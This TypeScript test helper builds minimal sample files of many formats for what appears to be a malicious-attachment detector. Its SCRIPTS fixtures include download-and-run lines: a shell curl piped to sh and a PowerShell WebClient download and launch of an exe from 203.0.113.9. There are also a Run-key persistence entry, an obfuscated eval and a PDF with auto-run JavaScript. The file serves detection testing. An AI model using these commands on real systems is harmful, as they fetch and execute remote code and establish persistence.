/**
 * Test helper: minimal files of each format, built byte by byte at run time (no sample is copied
 * from a corpus). Each carries exactly what the detectors look at, nothing more.
 */

export const enc = (text: string): Uint8Array => new TextEncoder().encode(text);

function put(target: Uint8Array, at: number, bytes: readonly number[] | Uint8Array): void {
  target.set(bytes, at);
}

function u16(view: DataView, at: number, value: number): void {
  view.setUint16(at, value, true);
}

function u32(view: DataView, at: number, value: number): void {
  view.setUint32(at, value, true);
}

/** A PE: DOS header with e_lfanew 0x80, "PE\0\0", COFF header with IMAGE_FILE_DLL set or not. */
export function peFile(dll = false): Uint8Array {
  const bytes = new Uint8Array(0x200);
  const view = new DataView(bytes.buffer);
  put(bytes, 0, enc('MZ'));
  u16(view, 2, 0x90);
  u32(view, 0x3c, 0x80);
  put(bytes, 0x80, enc('PE\0\0'));
  u16(view, 0x84, 0x14c); // i386
  u16(view, 0x86, 1); // one section
  u16(view, 0x80 + 22, dll ? 0x2102 : 0x0102);
  return bytes;
}

export function elfFile(): Uint8Array {
  const bytes = new Uint8Array(64);
  put(bytes, 0, [0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]);
  return bytes;
}

export function machOFile(magic: readonly number[]): Uint8Array {
  const bytes = new Uint8Array(64);
  put(bytes, 0, magic);
  return bytes;
}

export function lnkFile(): Uint8Array {
  const bytes = new Uint8Array(0x4c + 20);
  put(bytes, 0, [0x4c, 0, 0, 0, 0x01, 0x14, 0x02, 0, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46]);
  return bytes;
}

/** An ISO9660 image reduced to its primary volume descriptor at sector 16 (offset 0x8000). */
export function isoFile(): Uint8Array {
  const bytes = new Uint8Array(0x8800);
  put(bytes, 0x8000, [0x01, ...enc('CD001'), 0x01]);
  return bytes;
}

export function udfFile(): Uint8Array {
  const bytes = new Uint8Array(0x9800);
  put(bytes, 0x8000, [0x00, ...enc('BEA01'), 0x01]);
  put(bytes, 0x8800, [0x00, ...enc('NSR02'), 0x01]);
  return bytes;
}

export function oneNoteFile(): Uint8Array {
  const bytes = new Uint8Array(1024);
  put(bytes, 0, [0xe4, 0x52, 0x5c, 0x7b, 0x8c, 0xd8, 0xa7, 0x4d, 0xae, 0xb1, 0x53, 0x78, 0xd0, 0x29, 0x96, 0xd3]);
  return bytes;
}

/** An OLE compound file whose root entry (first directory sector, sector 0) has the given CLSID prefix. */
export function compoundFile(rootClsid: readonly number[] = []): Uint8Array {
  const bytes = new Uint8Array(1536);
  const view = new DataView(bytes.buffer);
  put(bytes, 0, [0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]);
  u16(view, 0x1a, 3);
  u16(view, 0x1c, 0xfffe);
  u16(view, 0x1e, 9);
  u32(view, 0x30, 0);
  put(bytes, 512, enc('R\0o\0o\0t\0 \0E\0n\0t\0r\0y\0'));
  put(bytes, 512 + 0x50, rootClsid);
  return bytes;
}

export const MSI_CLSID = [0x84, 0x10, 0x0c, 0x00, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46];

export function chmFile(): Uint8Array {
  const bytes = new Uint8Array(96);
  put(bytes, 0, enc('ITSF'));
  new DataView(bytes.buffer).setUint32(4, 3, true);
  return bytes;
}

/** A stored (uncompressed) zip with the given members, with local headers and a central directory. */
export function zipFile(members: readonly (readonly [string, string])[]): Uint8Array {
  const chunks: Uint8Array[] = [];
  const central: Uint8Array[] = [];
  let offset = 0;
  for (const [name, text] of members) {
    const nameBytes = enc(name);
    const data = enc(text);
    const local = new Uint8Array(30 + nameBytes.length);
    const lv = new DataView(local.buffer);
    u32(lv, 0, 0x04034b50);
    u16(lv, 4, 20);
    u32(lv, 18, data.length);
    u32(lv, 22, data.length);
    u16(lv, 26, nameBytes.length);
    local.set(nameBytes, 30);
    const entry = new Uint8Array(46 + nameBytes.length);
    const cv = new DataView(entry.buffer);
    u32(cv, 0, 0x02014b50);
    u16(cv, 4, 20);
    u16(cv, 6, 20);
    u32(cv, 20, data.length);
    u32(cv, 24, data.length);
    u16(cv, 28, nameBytes.length);
    u32(cv, 42, offset);
    entry.set(nameBytes, 46);
    chunks.push(local, data);
    central.push(entry);
    offset += local.length + data.length;
  }
  const centralSize = central.reduce((n, c) => n + c.length, 0);
  const eocd = new Uint8Array(22);
  const ev = new DataView(eocd.buffer);
  u32(ev, 0, 0x06054b50);
  u16(ev, 8, members.length);
  u16(ev, 10, members.length);
  u32(ev, 12, centralSize);
  u32(ev, 16, offset);
  return concat([...chunks, ...central, eocd]);
}

export function concat(parts: readonly Uint8Array[]): Uint8Array {
  const out = new Uint8Array(parts.reduce((n, p) => n + p.length, 0));
  let at = 0;
  for (const p of parts) {
    out.set(p, at);
    at += p.length;
  }
  return out;
}

/** A PNG signature and an IHDR chunk (1x1, 8-bit RGB). */
export function pngFile(): Uint8Array {
  return new Uint8Array([
    0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52, 0, 0, 0, 1, 0, 0, 0, 1, 8, 2, 0, 0, 0, 0x90, 0x77, 0x53, 0xde,
  ]);
}

export function pdfFile(): Uint8Array {
  return enc('%PDF-1.7\n1 0 obj\n<< /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1);) >> >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n');
}

/** Script samples of each kind, as an attacker would mail them. */
export const SCRIPTS = {
  shell: '#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n',
  python: '#!/usr/bin/env python3\nimport os\nos.system("id")\n',
  powershell:
    '$u = "http://203.0.113.9/a.exe"\n$wc = New-Object System.Net.WebClient\n$wc.DownloadFile($u, "$env:TEMP\\a.exe")\nStart-Process "$env:TEMP\\a.exe"\n',
  vbscript: 'On Error Resume Next\r\nDim sh\r\nSet sh = CreateObject("WScript.Shell")\r\nsh.Run "cmd /c calc", 0\r\n',
  jscript: 'var sh = new ActiveXObject("WScript.Shell");\r\nsh.Run("calc.exe", 0);\r\n',
  javascript:
    'var k = "YWxlcnQ=";\nfunction d(s) { return s.split("").reverse().join(""); }\nvar p = String.fromCharCode(104, 116, 116, 112);\neval(d(k));\n',
  batch: '@echo off\r\ncd /d %TEMP%\r\nstart "" calc.exe\r\n',
  batchAfterRemarks: 'rem setup\r\n:: more\r\n\r\n@ECHO OFF\r\nset x=1\r\n',
  registry: 'Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n"x"="calc.exe"\r\n',
} as const;

export const HTA_SAMPLE = '<html><head><title>x</title><HTA:APPLICATION ID="app" WINDOWSTATE="minimize"></head><body></body></html>';
export const HTA_SCRIPT_ONLY = '<html><body><script language="VBScript">Set s = CreateObject("WScript.Shell") : s.Run "calc"</script></body></html>';

/** Ordinary text that mentions code words without being code. */
export const PROSE =
  'Dear Bob,\n\nThe function of this report is to set out the variables we discussed; please return it by Friday.\n' +
  'If you want to echo the figures, use the start of section 2 (see the table). Dim lighting in the room was noted.\n' +
  'We will execute the plan once the new object is approved; call me if the results differ.\n\nRegards,\nAlice\n';

export const HTML_PAGE =
  '<!DOCTYPE html>\n<html><head><title>Newsletter</title><script>function go() { window.location = "/a"; return false; }</script></head>' +
  '<body><p>Hello</p><a href="https://example.org/" onclick="return go();">read</a></body></html>\n';
